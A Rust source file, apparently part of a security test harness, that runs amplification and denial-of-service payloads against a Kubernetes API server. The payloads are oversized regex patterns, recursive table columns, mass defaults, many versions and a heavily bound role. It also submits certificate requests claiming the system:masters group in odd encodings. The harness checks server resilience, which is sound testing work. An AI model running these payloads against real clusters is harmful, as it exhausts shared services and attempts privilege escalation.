//! What somebody writes once and everybody pays for: definitions whose patterns, columns, defaults or versions multiply, roles that are bound often,
//! certificate requests that say two things.

use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use bytes::Bytes;
use futures_util::future::join_all;
use serde_json::{Value, json};
use tokio::time::{sleep, timeout};

use crate::{
    attack::{
        ground::Target,
        options::Size,
        raw::{Raw, Reads},
        report::Told,
    },
    http::{Lines, Listener},
    pki::openssl,
    subject::{ATTACKER, VIEWER},
};

const DEFINITIONS: &str = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions";
const RBAC: &str = "/apis/rbac.authorization.k8s.io/v1";
const GROUP: &str = "attack.example.com";
const JSON: &str = "application/json";
const TABLE: (&str, &str) = ("accept", "application/json;as=Table;v=v1;g=meta.k8s.io");
/// How long one request may take.
const PATIENCE: Duration = Duration::from_secs(60);
/// How long a definition may take to be served.
const SERVED: Duration = Duration::from_secs(20);

/// Fields with a pattern of their own, each of which is large: in the crate `regex` some MB, or more than that takes.
const PATTERNS: usize = 300;
const LARGE_PATTERNS: [(&str, &str); 2] = [("patterns", r"\pL{1,90}"), ("hugepatterns", r"(\pL{900}\pN{900}){1}")];
/// Columns that look at all pairs and triples of what is nested, objects, and who lists them as a Table.
const COLUMNS: usize = 800;
const COLUMN: &str = ".spec..a..a..a";
const NESTED: usize = 100;
const OBJECTS: usize = 20;
const READERS: usize = 4;
/// A union that doubles at each step, and who changes the object that a Table is watched of.
const UNION: &str = "[0,0,0,0,0,0,0,0,0,0]";
const UNIONS: usize = 6;
const WRITERS: usize = 4;
/// Defaults in the metadata of an embedded object, and definitions with them at once.
const DEFAULTS: usize = 8_000;
const DEFAULTED_AT_ONCE: usize = 4;
/// Items without anything, and bytes of the default of each.
const EMPTY_ITEMS: usize = 40_000;
const DEFAULT_BYTES: usize = 5_000;
/// Versions of one object of so many bytes.
const VERSIONS: Size = Size(120, 300);
const OBJECT_BYTES: usize = 1_400_000;
/// Rules of a role, how often it is bound, and questions at once.
const RULES: usize = 8_000;
const BINDINGS: usize = 100;
const QUESTIONS: usize = 4;
/// Streams of the overview that one viewer asks for.
const STREAMS: usize = 200;

fn definition(plural: &str, versions: &[Value]) -> Value {
    let names = json!({"plural": plural, "singular": plural, "kind": format!("K{plural}"), "listKind": format!("K{plural}List")});
    json!({"apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition", "metadata": {"name": format!("{plural}.{GROUP}")},
        "spec": {"group": GROUP, "scope": "Cluster", "names": names, "versions": versions}})
}

fn version(name: &str, stores: bool, schema: Value, columns: &[&str]) -> Value {
    let columns: Vec<Value> =
        (0..).zip(columns).map(|(nth, path)| json!({"name": format!("c{nth}"), "type": "string", "jsonPath": path})).collect();
    json!({"name": name, "served": true, "storage": stores, "additionalPrinterColumns": columns, "schema": {"openAPIV3Schema": schema}})
}

fn object(plural: &str, name: &str, spec: &Value) -> Value {
    json!({"apiVersion": format!("{GROUP}/v1"), "kind": format!("K{plural}"), "metadata": {"name": name}, "spec": spec})
}

fn anything() -> Value {
    json!({"type": "object", "x-kubernetes-preserve-unknown-fields": true})
}

async fn write(listener: &Listener, method: &str, path: &str, body: &Value) -> (u16, Duration) {
    let media = if method == "PATCH" { "application/merge-patch+json" } else { JSON };
    let began = Instant::now();
    let answer = listener.whole(method, path, Some((media, Bytes::from(body.to_string()))), PATIENCE).await;
    (answer.map_or(0, |(status, _)| status), began.elapsed())
}

/// Creates a definition, and waits until its objects are served.
async fn define(target: &Target, plural: &str, versions: &[Value]) -> Result<String> {
    let (status, _) = write(&target.plain, "POST", DEFINITIONS, &definition(plural, versions)).await;
    ensure!(status == 201, "the definition of {plural} got {status}");
    let path = format!("/apis/{GROUP}/v1/{plural}");
    let began = Instant::now();
    while !target.plain.get(&path, PATIENCE).await.is_ok_and(|(status, _)| status == 200) {
        ensure!(began.elapsed() < SERVED, "{plural} are not served");
        sleep(Duration::from_millis(100)).await;
    }
    Ok(path)
}

fn told_of((status, time): (u16, Duration)) -> String {
    format!("{status}/{}ms", time.as_millis())
}

/// Objects that each large pattern is compared with.
pub(super) async fn patterns(target: &Target, told: &mut Told) -> Result<()> {
    for (plural, pattern) in LARGE_PATTERNS {
        let fields: Value =
            (0..PATTERNS).map(|nth| (format!("f{nth}"), json!({"type": "string", "pattern": format!("{pattern}|z{nth}")}))).collect();
        let schema = json!({"type": "object", "properties": {"spec": {"type": "object", "properties": fields}}});
        let path = define(target, plural, &[version("v1", true, schema, &[])]).await?;
        let spec: Value = (0..PATTERNS).map(|nth| (format!("f{nth}"), json!("z9"))).collect();
        told.note(plural, told_of(write(&target.plain, "POST", &path, &object(plural, "x", &spec)).await));
    }
    sleep(target.time).await;
    Ok(())
}

/// Tables of few small objects, of which each column looks at everything.
pub(super) async fn columns(target: &Target, told: &mut Told) -> Result<()> {
    let path = define(target, "columns", &[version("v1", true, anything(), &[COLUMN; COLUMNS])]).await?;
    let nested = (0..NESTED).fold(json!({"x": 1}), |inner, _| json!({"a": inner}));
    for nth in 0..OBJECTS {
        let (status, _) = write(&target.plain, "POST", &path, &object("columns", &format!("x{nth}"), &nested)).await;
        ensure!(status == 201, "an object got {status}");
    }
    let end = Instant::now() + target.time;
    let readers = (0..READERS).map(async |nth| {
        let mut lists = 0;
        while Instant::now() < end {
            let raw = Raw::open(&target.plain, nth, 1 << 30, Reads::Everything).await?;
            raw.get(&format!("{path}?resourceVersion=0"), &[TABLE]).await?;
            sleep(Duration::from_millis(500)).await;
            lists += raw.ok();
        }
        anyhow::Ok(lists)
    });
    let lists = join_all(readers).await.into_iter().collect::<Result<Vec<_>>>()?;
    told.note("tables", lists.into_iter().sum::<usize>());
    Ok(())
}

/// A Table is watched whose rows take long, and its object is changed without a pause.
pub(super) async fn watched_columns(target: &Target, told: &mut Told) -> Result<()> {
    let column = format!(".spec.l{}", UNION.repeat(UNIONS));
    let path = define(target, "unions", &[version("v1", true, anything(), &[&column])]).await?;
    let nested = (0..UNIONS).fold(json!([1]), |inner, _| json!([inner]));
    let (status, _) = write(&target.plain, "POST", &path, &object("unions", "x", &json!({"l": nested}))).await;
    ensure!(status == 201, "the object got {status}");
    let raw = Raw::open(&target.plain, 0, 1 << 30, Reads::Everything).await?;
    raw.get(&format!("{path}?watch=true&resourceVersion=0&timeoutSeconds=600"), &[TABLE]).await?;
    let end = Instant::now() + target.time;
    let writers = (0..WRITERS).map(async |writer| {
        let (mut patches, at) = (0, format!("{path}/x"));
        while Instant::now() < end {
            let label = json!({"metadata": {"labels": {"w": format!("{writer}-{patches}")}}});
            patches += usize::from(write(&target.plain, "PATCH", &at, &label).await.0 == 200);
        }
        patches
    });
    told.note("patches", join_all(writers).await.into_iter().sum::<usize>());
    told.note("watches", raw.ok());
    Ok(())
}

/// Definitions with many defaults in the metadata of an embedded object.
pub(super) async fn defaults(target: &Target, told: &mut Told) -> Result<()> {
    let fields: Value = (0..DEFAULTS).map(|nth| (format!("f{nth}"), json!({"type": "string", "default": "x"}))).collect();
    let members =
        json!({"apiVersion": {"type": "string"}, "kind": {"type": "string"}, "metadata": {"type": "object", "properties": fields}});
    let inner = json!({"type": "object", "x-kubernetes-embedded-resource": true, "properties": members});
    let schema = json!({"type": "object", "properties": {"spec": {"type": "object", "properties": {"inner": inner}}}});
    let body = definition("embedded", &[version("v1", true, schema, &[])]);
    let path = format!("{DEFINITIONS}?dryRun=All&timeout=3s");
    let asked = (0..DEFAULTED_AT_ONCE).map(|_| write(&target.plain, "POST", &path, &body));
    let answers: Vec<String> = join_all(asked).await.into_iter().map(told_of).collect();
    told.note("answers", answers.join(","));
    sleep(target.time).await;
    Ok(())
}

/// A small object, then a large default for each of its items.
pub(super) async fn multiplied(target: &Target, told: &mut Told) -> Result<()> {
    let of = |default: Option<String>| {
        let item = json!({"type": "string", "default": default});
        let items = json!({"type": "object", "properties": {"d": item}});
        let spec = json!({"type": "object", "properties": {"l": {"type": "array", "items": items}}});
        version("v1", true, json!({"type": "object", "properties": {"spec": spec}}), &[])
    };
    let path = define(target, "multiplied", &[of(None)]).await?;
    let items = vec![json!({}); EMPTY_ITEMS];
    told.note("object", told_of(write(&target.plain, "POST", &path, &object("multiplied", "x", &json!({"l": items}))).await));
    let versions = json!({"spec": {"versions": [of(Some("x".repeat(DEFAULT_BYTES)))]}});
    told.note("default", told_of(write(&target.plain, "PATCH", &format!("{DEFINITIONS}/multiplied.{GROUP}"), &versions).await));
    sleep(target.time).await;
    Ok(())
}

/// Each version of an object is read, and none is watched.
pub(super) async fn versions(target: &Target, told: &mut Told) -> Result<()> {
    let count = target.sizes.of(VERSIONS);
    // Each version has a field of its own, so that nothing is shared.
    let schema = |nth: usize| {
        let fields = json!({"text": {"type": "string"}, format!("of{nth}"): {"type": "string", "default": "x"}});
        json!({"type": "object", "properties": {"spec": {"type": "object", "properties": fields}}})
    };
    let versions: Vec<Value> = (1..=count).map(|nth| version(&format!("v{nth}"), nth == 1, schema(nth), &[])).collect();
    let path = define(target, "versions", &versions).await?;
    let (status, _) = write(&target.plain, "POST", &path, &object("versions", "x", &json!({"text": "x".repeat(OBJECT_BYTES)}))).await;
    ensure!(status == 201, "the object got {status}");
    let (mut read, mut others) = (0, Vec::new());
    for nth in 1..=count {
        match target.plain.get(&format!("/apis/{GROUP}/v{nth}/versions?resourceVersion=0"), PATIENCE).await {
            Ok((200, body)) if body.len() > OBJECT_BYTES => read += 1,
            Ok((status, body)) => others.push(format!("v{nth}: {status}, {}", String::from_utf8_lossy(&body[..body.len().min(200)]))),
            Err(why) => others.push(format!("v{nth}: {why}")),
        }
    }
    told.note("read", format!("{read}/{count}"));
    if let Some(first) = others.first() {
        told.blame(format!("{} of {count} versions were not answered, the first: {first}", count - read));
    }
    Ok(())
}

/// A user asks what he may do, to whom a large role is bound often.
pub(super) async fn rules(target: &Target, told: &mut Told) -> Result<()> {
    let rule = |nth: usize| json!({"apiGroups": [""], "resources": ["configmaps"], "resourceNames": [format!("n{nth}")], "verbs": ["get"]});
    let roles = format!("{RBAC}/namespaces/default/roles");
    let role = json!({"metadata": {"name": "large"}, "rules": (0..RULES).map(rule).collect::<Vec<_>>()});
    let (status, _) = write(&target.secure, "POST", &roles, &role).await;
    ensure!(status == 201, "the role got {status}");
    for nth in 0..BINDINGS {
        let of = json!({"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "large"});
        let subject = json!({"kind": "User", "name": ATTACKER, "apiGroup": "rbac.authorization.k8s.io"});
        let binding = json!({"metadata": {"name": format!("large-{nth}")}, "roleRef": of, "subjects": [subject]});
        write(&target.secure, "POST", &format!("{RBAC}/namespaces/default/rolebindings"), &binding).await;
    }
    let attacker = target.secure.with_token(ATTACKER);
    let review = json!({"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "spec": {"namespace": "default"}});
    let review = Bytes::from(review.to_string());
    let end = Instant::now() + target.time;
    let asked = (0..QUESTIONS).map(async |_| {
        let mut bytes = 0;
        while Instant::now() < end {
            let ask = async {
                let mut talk = attacker.talk().await?;
                let answer =
                    talk.ask("POST", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", Some((JSON, review.clone()))).await?;
                // Read and thrown away, as whoever wants nothing but the work does it.
                let mut body = answer.into_body();
                while let Some(frame) = http_body_util::BodyExt::frame(&mut body).await {
                    bytes += frame?.data_ref().map_or(0, Bytes::len);
                }
                anyhow::Ok(())
            };
            timeout(PATIENCE, ask).await.context("a review")??;
        }
        anyhow::Ok(bytes >> 20)
    });
    let read = join_all(asked).await.into_iter().collect::<Result<Vec<_>>>()?;
    told.note("read_mib", read.into_iter().sum::<usize>());
    Ok(())
}

/// One viewer asks for every stream of the overview; another one still has room.
pub(super) async fn streams(target: &Target, told: &mut Told) -> Result<()> {
    let role = json!({"metadata": {"name": "viewers"}, "rules": [{"nonResourceURLs": ["/watchcache/*"], "verbs": ["get"]}]});
    write(&target.secure, "POST", &format!("{RBAC}/clusterroles"), &role).await;
    let of = json!({"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "viewers"});
    let subject = json!({"kind": "User", "name": "viewer", "apiGroup": "rbac.authorization.k8s.io"});
    let binding = json!({"metadata": {"name": "viewers"}, "roleRef": of, "subjects": [subject]});
    write(&target.secure, "POST", &format!("{RBAC}/clusterrolebindings"), &binding).await;
    sleep(Duration::from_secs(2)).await;
    let viewer = target.secure.with_token(VIEWER);
    const OVERVIEW: &str = "/watchcache/api/v1/overview?watch=true";
    let mut open = Vec::new();
    for nth in 0..STREAMS {
        let answer = viewer.open(OVERVIEW, nth).await?;
        if answer.status().as_u16() == 200 {
            open.push(Lines::new(answer.into_body()));
        }
    }
    told.note("streams", open.len());
    let other = target.secure.open(OVERVIEW, 0).await?.status().as_u16();
    told.note("administrator", other);
    if other != 200 {
        told.blame(format!("an administrator's stream of the overview got {other}"));
    }
    sleep(target.time).await;
    Ok(())
}

/// An organization that is written as another type of text than names usually are.
pub(super) async fn certificates(target: &Target, told: &mut Told) -> Result<()> {
    let dir = tempfile::tempdir()?;
    for (name, mask) in [("t61", "MASK:0x4"), ("bmp", "MASK:0x800"), ("universal", "MASK:0x100")] {
        let (config, request, key) = (dir.path().join("c"), dir.path().join("r"), dir.path().join("k"));
        std::fs::write(&config, format!("[req]\nprompt=no\ndistinguished_name=d\nstring_mask={mask}\n[d]\nO=system:masters\nCN=x\n"))?;
        let [config, request_at, key] = [&config, &request, &key].map(|path| path.to_string_lossy().into_owned());
        openssl(&[
            "req",
            "-new",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:P-256",
            "-nodes",
            "-config",
            &config,
            "-keyout",
            &key,
            "-out",
            &request_at,
        ])
        .await?;
        let text = std::fs::read(&request)?;
        let spec = json!({"request": base64(&text), "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]});
        let body = json!({"metadata": {"name": name}, "spec": spec});
        let (status, _) = write(&target.secure, "POST", "/apis/certificates.k8s.io/v1/certificatesigningrequests", &body).await;
        told.note(name, status);
        if !matches!(status, 400 | 403 | 422) {
            told.blame(format!("a request for system:masters as {name} got {status}"));
        }
    }
    Ok(())
}

fn base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let of = |three: &[u8]| {
        let bits = three.iter().fold(0_u32, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - three.len()));
        let letters = (0..4).map(move |nth| char::from(LETTERS[(bits >> (18 - 6 * nth)) as usize & 63]));
        let padded = 3 - three.len();
        letters.take(4 - padded).chain(std::iter::repeat_n('=', padded)).collect::<String>()
    };
    bytes.chunks(3).map(of).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn texts_are_encoded() {
        assert_eq!(["", "f", "fo", "foo", "foob"].map(|text| base64(text.as_bytes())), ["", "Zg==", "Zm8=", "Zm9v", "Zm9vYg=="]);
    }
}
